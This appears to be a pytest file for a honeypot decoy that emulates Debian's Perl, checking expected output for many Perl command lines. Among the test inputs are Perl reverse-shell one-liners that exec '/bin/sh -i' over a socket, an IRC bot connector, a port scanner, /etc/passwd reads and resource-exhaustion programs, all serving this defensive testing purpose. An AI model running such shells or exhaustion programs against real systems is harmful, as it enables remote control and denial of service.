# SPDX-License-Identifier: MIT
# ruff: noqa: E501  # programs as they are
"""Lines and scripts of Perl as Debian's Perl 5.36 plays them."""

from __future__ import annotations

import pytest
from tests.at_scale import at_scale
from tests.decnet_decoys.decky_host import Player


@pytest.mark.parametrize(
    ("line", "text", "status"),
    [
        ('perl -e \'$x="abc"; print uc($x), " ", length $x, "\\n"\'', "ABC 3\n", 0),
        ("perl -e 'for $i (1..3) { print \"$i\\n\" }'", "1\n2\n3\n", 0),
        ('perl -e \'my $n=0; while ($n<3) { print $n++, " " } print "\\n"\'', "0 1 2 \n", 0),
        ("perl -e 'for (my $i=0; $i<3; $i++) { print \"i=$i \" }'", "i=0 i=1 i=2 ", 0),
        ('perl -e \'$s+=$_ for 1..4; print "$s\\n"; print 7/2, " ", 1.5\'', "10\n3.5 1.5", 0),
        ('perl -e \'$y="a"."b"; $y.="c"; print "$y\\n" unless $y eq "x"; print "no" if "a" eq "b"\'', "abc\n", 0),
        ('perl -e \'print join(",", 1..4), "\\n"; print "$_;" for qw(a b)\'', "1,2,3,4\na;b;", 0),
        ("perl -e 'print `echo bt`; $x=`id -u`; chomp $x; print \"<$x>\"'", "bt\n<0>", 0),
        ('perl -e \'printf "%x %03d %s\\n", 255, 7, "z"\'', "ff 007 z\n", 0),
        ("perl -e 'print \"$ENV{HOME} $0 @ARGV $ARGV[1]\\n\"' a b", "/root -e a b b\n", 0),
        ("perl -e 'print \"a\\$x \\@b\\n\"; exit 4; print 1'", "a$x @b\n", 4),
        ("perl -F: -lane 'print \"$F[0] $F[2]\" if $F[2]==0' /etc/passwd", "root 0\n", 0),
        (
            "printf 'a b\\nc d\\n' | perl -lane 'print $F[1]'; printf 'x\\ny\\n' | perl -ne 'print \"$.$_\"'",
            "b\nd\n1x\n2y\n",
            0,
        ),
        ("printf 'web\\n' > /tmp/h; perl -pi -e 's/web/db/' /tmp/h; cat /tmp/h", "db\n", 0),
        ("echo 'print \"from $0\\n\"; # print 2\nexit 3' > /tmp/p.pl; perl /tmp/p.pl", "from /tmp/p.pl\n", 3),
        ("echo 'print \"in\\n\"' | perl; perl -c -e 'print 1'", "in\n", 0),
        ("perl -e 'for (1..9) { next if $_ == 2; last if $_ > 3; print } print \"end\"; next; print 1'", "13end", 255),
        ("printf 'a\\nb\\nc\\n' | perl -ne 'next if $. == 2; print'", "a\nc\n", 0),
        (
            'perl -MMIME::Base64 -e \'print decode_base64("aGkK"), encode_base64("hi"), decode_base64("a")\'',
            "hi\naGk=\n",
            0,
        ),
        ('perl -e \'printf "%c%c|%s|%s\\n", 65, 66, "007", 3000000000; print 0.1+0.2\'', "AB|007|3000000000\n0.3", 0),
        ("perl -pi -e 's/a/b/' /tmp/nosuch; perl -pi -e 's/a/b/' /tmp; ls /tmp/nosuch", "", 2),
        ("perl -e 'print 1 +'", "", 255),
        ("perl /nosuch", "", 2),
        (
            "perl -e 'print 1; nosuch(); print \"after\"' 2>&1",
            "1Undefined subroutine &main::nosuch called at -e line 1.\n",
            255,
        ),
    ],
)
def test_a_line_of_perl(run: Player, line: str, text: str, status: int) -> None:
    played = run(line)
    assert (played.text, played.status) == (text, status)


def test_a_loop_without_end_uses_up_the_line(run: Player) -> None:
    assert run("perl -e 'while (1) { $x++ }'; echo after").status == 137


@pytest.mark.parametrize(
    "program",
    at_scale(
        [
            '$x = "ab"; for (1..99) { $x .= "$x$x" } print length($x)',
            "push @a, (1) x 5000 while 1",
            "sub f { f() } f()",
            '$h{$_}{$_} = "x" x 60000 for 1..9999',
            'while (1) { open($f[$i++], "<", "/etc/passwd") }',
            '$x = "a" x 60000; $x =~ s/a/aa/g; $x =~ s/a/$x/g',
            'print join(",", map { ($_) x 99 } 1..9999) for 1..99',
            'for (;;) { eval { die "x" } }',
        ],
        always=3,
    ),
)
def test_a_program_that_wants_too_much_does_not_get_it(run: Player, program: str) -> None:
    assert run(f"perl -e '{program}' >/dev/null 2>&1; echo after").status in (0, 137)


def test_lines_that_are_too_long_for_a_variable_stay_whole(run: Player) -> None:
    assert run("head -c 9000 /dev/zero | tr '\\0' a | perl -pe '$n++' | wc -c").text == "9000\n"


@pytest.mark.parametrize(
    ("line", "text", "errors", "status"),
    [
        (
            'perl -e \'my @l = split(/,/, "a,b,c"); print scalar(@l), " $l[1] $l[-1] @l[0,1]\\n"; push @l, "d"; print join("|", map { uc } @l), "\\n"; for my $i (0..$#l) { print "$i=$l[$i] "; } print "\\n";\'',
            "3 b c a b\nA|B|C|D\n0=a 1=b 2=c 3=d \n",
            "",
            0,
        ),
        (
            'perl -e \'my %h = (a=>1, b=>2); $h{c} = 3; foreach my $k (sort keys %h) { print "$k=$h{$k}\\n"; } print exists $h{a} ? "yes" : "no", "\\n"; delete $h{a}; print join(",", sort { $h{$b} <=> $h{$a} } keys %h), "\\n"; while (my ($k,$v) = each %h) { $s += $v } print "s=$s\\n";\'',
            "a=1\nb=2\nc=3\nyes\nc,b\ns=5\n",
            "",
            0,
        ),
        (
            'perl -e \'if ($ARGV[0] > 5) { print "big\\n" } elsif ($ARGV[0] == 5) { print "five\\n" } else { print "small\\n" } print "ok\\n" unless $ARGV[1]; print "args: @ARGV\\n";\' 5',
            "five\nok\nargs: 5\n",
            "",
            0,
        ),
        (
            'perl -MIO::Socket::INET -e \'$s=IO::Socket::INET->new(PeerAddr=>"127.0.0.1",PeerPort=>1,Proto=>"tcp",Timeout=>1) or die "connect: $!\\n"; print $s "hi";\'; echo "rc $?"',
            "rc 111\n",
            "connect: Connection refused\n",
            0,
        ),
        (
            'perl -e \'use Socket;$i="127.0.0.1";$p=1;socket(S,PF_INET,SOCK_STREAM,getprotobyname("tcp"));if(connect(S,sockaddr_in($p,inet_aton($i)))){open(STDIN,">&S");open(STDOUT,">&S");open(STDERR,">&S");exec("/bin/sh -i");};\'; echo $?',
            "0\n",
            "",
            0,
        ),
        (
            "perl -MIO -e '$p=fork;exit,if($p);$c=new IO::Socket::INET(PeerAddr,\"127.0.0.1:1\");STDIN->fdopen($c,r);$~->fdopen($c,w);system$_ while<>;'; echo $?",
            "0\n",
            'Parameterless "use IO" deprecated at -e line 0.\n',
            0,
        ),
        (
            'perl -MMIME::Base64 -e \'print decode_base64("aGVsbG8gd29ybGQK"); print encode_base64("root:toor"); print decode_base64(join("",<STDIN>))\' <<< "c3RhZ2UK"; perl -MMIME::Base64 -ne \'print decode_base64($_)\' <<< "eHl6Cg=="',
            "hello world\ncm9vdDp0b29y\nstage\nxyz\n",
            "",
            0,
        ),
        (
            'perl -e \'print pack("H*","68656c6c6f0a"); print unpack("H*","abc"),"\\n"; print join(".",unpack("C4",pack("N",3232235777))),"\\n"; print ord("A"),chr(66),sprintf("%03d|%x|%s",7,255,"z"),"\\n"; print lc("ABC").ucfirst("def").reverse("abc")."\\n"\'',
            "hello\n616263\n192.168.1.1\n65B007|ff|z\nabcDefcba\n",
            "",
            0,
        ),
        (
            'perl -e \'$_="user=admin pass=123"; if (/user=(\\w+)\\s+pass=(\\d+)/) { print "u:$1 p:$2\\n" } my @m = /(\\w+)=/g; print "@m\\n"; s/admin/root/; print "$_\\n"; (my $c = $_) =~ tr/a-z//cd; print "$c\\n"; print "n=", scalar(() = /s/g), "\\n"\'',
            "u:admin p:123\nuser pass\nuser=root pass=123\nuserrootpass\nn=3\n",
            "",
            0,
        ),
        (
            "perl -ne 'print if /root/ .. /daemon/' /etc/passwd; perl -ne 'END { print \"$.\\n\" }' /etc/hostname; perl -pe 's/(\\w+)/<$1>/' <<< 'ab cd'; perl -lne '$c{$_}++; END { print \"$_ $c{$_}\" for sort keys %c }' <<< $'a\\nb\\na'; perl -lane 'print $F[-1]; $t += $F[1]; END { print $t }' <<< $'x 1\\ny 2'; perl -i -pe 's/x/y/' /dev/null; perl -0pe 's/\\n/,/g' <<< $'1\\n2'; echo",
            "root:x:0:0:root:/root:/bin/bash\ndaemon:x:1:1:daemon:/usr/sbin:/usr/sbin/nologin\n1\n<ab> cd\na 2\nb 1\n1\n2\n3\n1,2,\n",
            "Can't do inplace edit: /dev/null is not a regular file.\n",
            0,
        ),
        (
            'perl -e \'sub rot { my $s = shift; $s =~ tr/A-Za-z/N-ZA-Mn-za-m/; return $s } print rot("uryyb"), "\\n"; my $str = ""; foreach my $c (split //, "khoor") { $str .= chr(ord($c)-3); } print "$str\\n"; print "x" x 5 . "\\n"; print "-" x 3, "\\n"; my @a = (1) x 3; print "@a\\n";\'',
            "hello\nhello\nxxxxx\n---\n1 1 1\n",
            "",
            0,
        ),
        (
            'perl -e \'opendir(D, "/proc") or die; my @p = grep { /^\\d+$/ } readdir D; closedir D; print @p > 0 ? "procs\\n" : "none\\n"; open(my $fh, "<", "/etc/hostname") or die $!; my $l = <$fh>; chomp $l; close $fh; print length($l) > 0 ? "host\\n" : "?\\n"; print -e "/etc/passwd" ? "e" : "-", -d "/tmp" ? "d" : "-", -x "/nope" ? "x" : "-", "\\n";\'',
            "procs\nhost\ned-\n",
            "",
            0,
        ),
        (
            'perl -e \'my $r = { name => "bot", list => [1,2,3] }; print "$r->{name} $r->{list}[1] @{$r->{list}}\\n"; push @{$r->{list}}, 4; print scalar @{$r->{list}}, "\\n"; my @s = sort { $b <=> $a } @{$r->{list}}; print "@s\\n"; print ref($r), " ", ref([]), "\\n"; my ($x, $y) = (1, 2); ($x, $y) = ($y, $x); print "$x$y\\n";\'',
            "bot 2 1 2 3\n4\n4 3 2 1\nHASH ARRAY\n21\n",
            "",
            0,
        ),
        (
            'perl -e \'eval { die "oops\\n" }; print "caught: $@"; eval { my $x = 1 / 0; }; print $@; local $SIG{ALRM} = sub { die "t\\n" }; print "ok $0\\n"; warn "warned\\n"; $! = 2; print "$!\\n"; open(F, "/nope") || print "no: $!\\n"; die { code => 1 } if 0; exit(4)\'; echo $?',
            "caught: oops\nIllegal division by zero at -e line 1.\nok -e\nNo such file or directory\nno: No such file or directory\n4\n",
            "warned\n",
            0,
        ),
        (
            'perl -e \'use strict; use warnings; my $x = 5; my $s = "v: ${x}th $$ "; $s =~ s/\\d+ $/PID/; print "$s\\n"; print "sum ", 1+2*3**2 % 5, " ", 7/2, " ", int(7/2), " ", 10 % 3, " ", "5"+"6", " ", "5"."6", " ", 2 <=> 1, " ", "a" lt "b", "\\n"; my @e = (1..3, "a".."c"); print "@e\\n"; print "last $#e $e[$#e]\\n"\'',
            "v: 5th PID\nsum 4 3.5 3 1 11 56 1 1\n1 2 3 a b c\nlast 5 c\n",
            "",
            0,
        ),
        (
            'perl -e \'printf "%-10s|%5.2f|%05d|%s\\n", "ab", 3.14159, 42, join ",", map { $_ * 2 } grep { $_ % 2 } 1..5; print "a".1+2, "\\n"; print "time ok\\n" if time > 1600000000; my @t = localtime(0); print $t[5]+1900, "\\n"; print substr("hello", 1, 3), index("hello", "l"), rindex("hello","l"), "\\n"; print ucfirst(lc("HELLO")), " ", "abc" x -1, "|\\n"\'',
            "ab        | 3.14|00042|2,6,10\n2\ntime ok\n1970\nell23\nHello |\n",
            "",
            0,
        ),
        (
            'cat > /tmp/x.pl <<\'EOF\'\n#!/usr/bin/perl\nuse strict;\nuse warnings;\nmy @servers = ("irc.example.net", "198.51.100.2");\nmy $port = 6667;\nmy $nick = "bot" . int(rand(1)) ;\nmy %cmd = (join => \\&do_join, quit => sub { print "quit @_\\n"; });\nsub do_join {\n    my ($chan, %opt) = @_;\n    print "JOIN $chan", ($opt{key} ? " $opt{key}" : ""), "\\n";\n}\nforeach my $s (@servers) {\n    next unless $s =~ /^\\d+\\./;\n    print "server $s:$port as $nick\\n";\n}\n$cmd{join}->("#chan", key => "k");\n$cmd{quit}->("bye");\nprint <<"END";\nPort $port\nEND\nexit 0;\nEOF\nperl /tmp/x.pl; echo "rc $?"',
            "server 198.51.100.2:6667 as bot0\nJOIN #chan k\nquit bye\nPort 6667\nrc 0\n",
            "",
            0,
        ),
        (
            'perl -e \'$c = `echo shell`; chomp($c); print "[$c]\\n"; my @l = `printf "a\\nb\\n"`; print scalar(@l), "\\n"; system("echo sys; exit 3"); print $? >> 8, "\\n"; print `id -u`; open(P, "echo piped |"); print <P>; close P; unlink "/tmp/nofile" or print "unlink: $!\\n"; open(O, ">/tmp/po"); print O "data\\n"; close O; print `cat /tmp/po`; mkdir "/tmp/pd"; print -d "/tmp/pd" ? 1 : 0, "\\n"; exec "echo", "exec\'\\\'\'d";\'',
            "[shell]\n2\nsys\n3\n0\npiped\nunlink: No such file or directory\ndata\n1\nexec'd\n",
            "",
            0,
        ),
        (
            'perl -e \'my @a=map { { n=>$_, s=>$_*2 } } 1..3; print join(",", map { "$_->{n}:$_->{s}" } @a), "\\n"; my %c; $c{$_}++ for qw(a b a); print map { "$_=$c{$_};" } sort keys %c; print "\\n"; my @s = sort { $a->{s} <=> $b->{s} or $a->{n} cmp $b->{n} } @a; print $s[0]{n}, $s[-1]->{s}, "\\n"; push @{$h{list}}, 1, 2; print "@{$h{list}} $#{$h{list}}\\n"; my ($x, @r) = (1,2,3); print "$x|@r\\n"\'',
            "1:2,2:4,3:6\na=2;b=1;\n16\n1 2 1\n1|2 3\n",
            "",
            0,
        ),
        (
            'perl -e \'my $s="a,b;c"; print join("|", split(/[,;]/, $s)), "\\n"; print join("|", split(//, "abc")), "\\n"; print join("|", split(" ", "  a  b ")), "\\n"; print join("|", split(/,/, "a,b,,,")), "|\\n"; print join("|", split(/(,)/, "a,b")), "\\n"; print scalar(my @x = split /:/, "x:y:z"), "\\n"; ($u, $p) = split /:/, "root:toor", 2; print "$u/$p\\n"; print join(",", "k1=v1&k2=v2" =~ /(\\w+)=(\\w+)/g), "\\n"\'',
            "a|b|c\na|b|c\na|b\na|b|\na|,|b\n3\nroot/toor\nk1,v1,k2,v2\n",
            "",
            0,
        ),
        (
            'perl -e \'my $i = 0; while (1) { $i++; next if $i % 2; last if $i > 6; print $i; } print "\\n"; do { print $i--; } while ($i > 5); print "\\n"; until ($i <= 3) { $i-- } print "$i\\n"; OUTER: for my $a (1..3) { for my $b (1..3) { next OUTER if $b == 2; print "$a$b " } } print "\\n"; my $n = () = "banana" =~ /a/g; print "$n\\n"; print "yes\\n" if "abc" =~ /^a.c$/ && "x" ne "y"; print "a" lt "b" ? "lt" : "ge", "\\n"\'',
            "246\n876\n3\n11 21 31 \n3\nyes\nlt\n",
            "",
            0,
        ),
        (
            'perl -MIO::Socket -e \'my $server = "198.51.100.9"; my $port = 6667; my @nicks = ("a".."c"); my $sock = IO::Socket::INET->new(PeerAddr => "$server", PeerPort => "$port", Proto => "tcp", Timeout => 3); unless ($sock) { print STDERR "cannot connect: $@\\n"; exit 1 } print $sock "NICK bot\\r\\n"; while (my $line = <$sock>) { chomp $line; if ($line =~ /^PING (.*)$/) { print $sock "PONG $1\\r\\n" } }\' 2>/dev/null; echo $?',
            "1\n",
            "",
            0,
        ),
        (
            'perl -e \'my $str = "48656c6c6f"; $str =~ s/([0-9a-f]{2})/chr(hex($1))/ge; print "$str\\n"; my $enc = join "", map { sprintf "%02x", ord } split //, "Hi!"; print "$enc\\n"; my $x = "hello world"; (my $t = $x) =~ s/(\\w+)/\\u$1/g; print "$t\\n"; print ucfirst(join(" ", reverse split / /, $x)), "\\n"; $x =~ s{world}{perl}; print "$x\\n"; my $cnt = ($x =~ s/l/L/g); print "$cnt $x\\n"; print "pos\\n" if $x =~ m{^/?h}i; $x =~ y/a-z/A-Z/; print "$x\\n"; print "xor: ", join(",", map { ord($_) ^ 0x20 } split //, "AB"), "\\n"\'',
            "Hello\n486921\nHello World\nWorld hello\nhello perl\n3 heLLo perL\npos\nHELLO PERL\nxor: 97,98\n",
            "",
            0,
        ),
        (
            'cat > /tmp/bd.pl <<\'EOF\'\n#!/usr/bin/perl -w\n# simple scanner\nuse strict;\nuse IO::Socket;\nuse Getopt::Std;\nmy ($host, @ports) = @ARGV;\ndie "usage: $0 host port...\\n" unless $host && @ports;\nmy %open;\nPORT:\nforeach my $port (@ports) {\n    my $s = IO::Socket::INET->new("$host:$port");\n    if ($s) { $open{$port} = 1; close $s; }\n    else { printf "%-6d closed (%s)\\n", $port, $!; next PORT; }\n}\nprint "open: ", (join ", ", sort { $a <=> $b } keys %open) || "none", "\\n";\nsub trim { my $s = shift; $s =~ s/^\\s+|\\s+$//g; return $s }\nprint "[", trim("  x y  "), "]\\n";\nmy $text = sprintf("%s has %d items", "list", scalar @ports);\nprint $text . "\\n" x 2;\n__END__\njunk here )(\nEOF\nperl /tmp/bd.pl; echo $?; perl /tmp/bd.pl 127.0.0.1 1 2',
            "255\n1      closed (Connection refused)\n2      closed (Connection refused)\nopen: none\n[x y]\nlist has 2 items\n\n",
            "usage: /tmp/bd.pl host port...\n",
            0,
        ),
    ],
)
def test_a_program_does_what_it_does_on_debian(run: Player, line: str, text: str, errors: str, status: int) -> None:
    played = run(line)
    assert (played.text, played.errors, played.status) == (text, errors, status)


def test_a_connection_is_recorded_and_refused(run: Player) -> None:
    program = "use IO::Socket; $s = IO::Socket::INET->new(PeerAddr => q(127.0.0.1), PeerPort => 4444) or print $!"
    played = run(f"perl -e '{program}'")
    assert played.text == "Connection refused"
    assert [one.detail["target"] for one in played.requested] == ["127.0.0.1:4444"]


@pytest.mark.parametrize(
    ("program", "text"),
    [
        (
            'print pack("(H2)*", "41", "42"), join(",", unpack("(A2)*", "aabbc")), unpack("(a1)2 n", "xy\\1\\2")',
            "ABaa,bb,cxy258",
        ),
        ('print map { chr hex } unpack("(A2)*", "6869")', "hi"),
        (
            '$_ = "a1b2"; print pos while /[a-z]/g; $x = "xx"; $x =~ /x/g; print pos($x), defined pos($y) ? 1 : 0',
            "1310",
        ),
    ],
)
def test_what_programs_of_intruders_use(run: Player, program: str, text: str) -> None:
    assert run(f"perl -e '{program}' 2>/dev/null").text == text


def test_what_is_printed_goes_where_standard_output_was_opened(run: Player) -> None:
    assert run('perl -e \'open(STDOUT, ">", "/tmp/out"); print "kept"\'; cat /tmp/out').text == "kept"
